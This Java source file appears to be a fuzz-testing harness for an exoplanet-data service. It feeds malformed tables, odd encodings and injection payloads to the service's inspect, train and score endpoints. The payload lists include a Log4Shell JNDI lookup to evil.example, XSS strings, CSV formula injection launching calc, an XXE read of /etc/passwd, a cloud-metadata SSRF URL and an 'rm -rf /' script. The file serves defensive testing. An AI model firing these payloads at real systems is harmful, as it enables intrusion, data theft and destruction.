package io.exoscout.attack;

import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Tables that are broken, enormous, or that carry something for whoever opens what comes
 * out.
 */
final class TableAttacks {

	private static final String INSPECT = "/exo-scout-orchestrator/inspect";

	private static final List<String> CELLS = List.of("NaN", "Infinity", "-Infinity", "1e400", "-1e400", "1e-400",
			"4.9e-324", "3.4e38", "-3.4e38", "1.8e308", "0x1p3", "1_000", "1,5", "1d", "1f", "+1", "--1", "1e", ".",
			"-", "٣", "1 000", "1;2", "(1)", "1%", "$1", "=1+1", "@SUM(1)", "+cmd|'/c calc'!A1", "\t=1",
			"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg/onload=x>", "javascript:alert(1)",
			"${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "\u202eabc", "\u0000", "\u0007", "\ufeff",
			"\ud83e\ude90", "a".repeat(60_000), "1".repeat(5000), "'", "''", "\\", "\\\"", "null", "NULL", "None",
			"N/A", "#N/A", "#REF!", "true", "2026-01-01", "1:2:3", "file:///etc/passwd", "http://169.254.169.254/",
			"$where", "a.b", "__proto__", "＝1+1", "＋1", "－1", "＠x");

	private static final List<String> COLUMNS = List.of("$where", "a.b", "", " ", "__proto__", "constructor", "=1+1",
			"<script>", "\u0000", "koi_period", "KOI_PERIOD", "koi_period ", "\ufeffkepid", "a".repeat(9000),
			"kepid\u200b", "\u202e", "\"", "'", "\\", "_id", "class", "koi_disposition", "koi_pdisposition", "a\tb",
			"a;b", "1", "NaN", "\ud83e\ude90", "%s%n", "${x}");

	private static final List<String> TEXTS = List.of("\"", "\"\n", "\"a", "a\"b,c\n", "a,b\n\"1,2\n", "a,b\n1\n",
			"a,b\n1,2,3\n", "a\n".repeat(3), ",,,,\n,,,,\n", "\n\n\n", "# only\n", "a,a\n1,2\n", "\r\r\r", "a,b\r1,2\r",
			"a\u0000b\n", "a;b\n1;2\n", "a\tb\n1\t2\n", "a|b\n1|2\n", "%PDF-1.7", "PK\u0003\u0004", "\u0089PNG\r\n",
			"<html></html>",
			"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>",
			"SIMPLE  =                    T", "[1,2,3]", "{\"a\":[1]}", "version https://git-lfs",
			"\u0080\u0002}q\u0000", "SQLite format 3\u0000", "CDF\u0001", "\u0089HDF\r\n", "PAR1", "ARROW1",
			"#!/bin/sh\nrm -rf /\n", "LABEL,FLUX.1\n1,2\n", "x".repeat(2_000_000), "a," + "b,".repeat(50_000) + "\n",
			"a\n" + "\"\n".repeat(50_000), "a\n" + "\"x\"".repeat(20_000) + "\n", "\"" + "\n".repeat(100_000));

	private TableAttacks() {
	}

	static void addTo(Attacks attacks, String table, Random chance) {
		String[] lines = table.split("\n", -1);
		int columns = lines[0].split(",").length;
		for (String text : TEXTS) {
			attacks.refused("files that are no table", text, inspect(text));
			attacks.refused("files that are no table", "to train on " + text,
					FormAttacks.file("/exo-scout-orchestrator", bytes(text)));
			attacks.refused("files that are no table", "to score " + text,
					FormAttacks.file("/exo-scout-predictor?job_id=none", bytes(text)));
		}
		for (String cell : CELLS) {
			String quoted = "\"" + cell.replace("\"", "\"\"") + "\"";
			for (int column = 0; column < columns; column++) {
				attacks.harmless("cells", "column " + column + " " + cell, inspect(with(lines, column, quoted)));
			}
		}
		for (String name : COLUMNS) {
			String quoted = "\"" + name.replace("\"", "\"\"") + "\"";
			attacks.harmless("names of columns", name, inspect(quoted + "," + table.replace("\n", "\n1,")));
			attacks.harmless("names of columns", "in place of the first: " + name,
					inspect(quoted + table.substring(table.indexOf(','))));
		}
		for (String charset : List.of("UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "ISO-8859-1", "windows-1252",
				"IBM037", "UTF-8")) {
			attacks.harmless("encodings", charset, FormAttacks.file(INSPECT, table.getBytes(Charset.forName(charset))));
			attacks.harmless("encodings", charset + " with a mark",
					FormAttacks.file(INSPECT, ("\ufeff" + table).getBytes(Charset.forName(charset))));
		}
		for (byte[] mark : new byte[][] { { (byte) 0xff }, { (byte) 0xfe, (byte) 0xff },
				{ (byte) 0xff, (byte) 0xfe, 0, 0 }, { (byte) 0xc0, (byte) 0x80 },
				{ (byte) 0xed, (byte) 0xa0, (byte) 0x80 }, { (byte) 0xf5, 1, 1, 1 }, { (byte) 0x80 } }) {
			byte[] all = bytes(table);
			for (int at : new int[] { 0, 3, all.length / 2, all.length - mark.length }) {
				byte[] changed = all.clone();
				System.arraycopy(mark, 0, changed, at, mark.length);
				attacks.harmless("encodings", "bytes at " + at, FormAttacks.file(INSPECT, changed));
			}
		}
		byte[] all = bytes(table);
		for (int i = 0; i < 300; i++) {
			byte[] changed = all.clone();
			for (int j = 0; j <= chance.nextInt(20); j++) {
				changed[chance.nextInt(changed.length)] = (byte) chance.nextInt(256);
			}
			attacks.harmless("tables that chance broke", "number " + i, FormAttacks.file(INSPECT, changed));
		}
		for (int many : new int[] { 100, 2001, 10_000 }) {
			attacks.harmless("wide tables", many + " columns",
					inspect(IntStream.range(0, many).mapToObj((i) -> "c" + i).collect(Collectors.joining(",")) + "\n"));
		}
	}

	private static String with(String[] lines, int column, String cell) {
		StringBuilder table = new StringBuilder();
		for (int i = 0; i < lines.length; i++) {
			String[] cells = lines[i].split(",", -1);
			if (i % 7 == 3 && cells.length > column) {
				cells[column] = cell;
			}
			table.append(String.join(",", cells)).append((i < lines.length - 1) ? "\n" : "");
		}
		return table.toString();
	}

	private static byte[] inspect(String text) {
		return FormAttacks.file(INSPECT, bytes(text));
	}

	private static byte[] bytes(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

}
